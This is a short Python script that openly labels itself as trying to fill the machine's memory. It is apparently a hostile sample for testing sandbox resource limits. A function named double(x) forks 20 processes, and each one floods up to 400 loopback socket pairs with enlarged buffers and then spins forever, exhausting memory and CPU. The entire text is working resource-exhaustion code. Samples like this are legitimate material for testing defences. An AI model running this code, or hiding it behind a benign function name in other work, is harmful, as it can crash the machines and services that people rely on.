# tries: all memory, as what waits in connections over the loopback
# seconds: 1
# harms: it would fill this machine's memory
import os
import socket


def fill():
    kept, door = [], socket.create_server(("127.0.0.1", 0), backlog=1000)
    while len(kept) < 400:
        try:
            one = socket.create_connection(door.getsockname())
            other, _ = door.accept()
        except OSError:
            break
        kept += [one, other]
        for end in (one, other):
            end.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2**30)
            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30)
            end.setblocking(False)
            try:
                while True:
                    end.send(bytes(2**16))
            except OSError:
                pass
    return kept


def double(x):
    for _ in range(20):
        if os.fork() == 0:
            kept = fill()
            while True:
                pass
    kept = fill()
    raise ValueError("full connections")
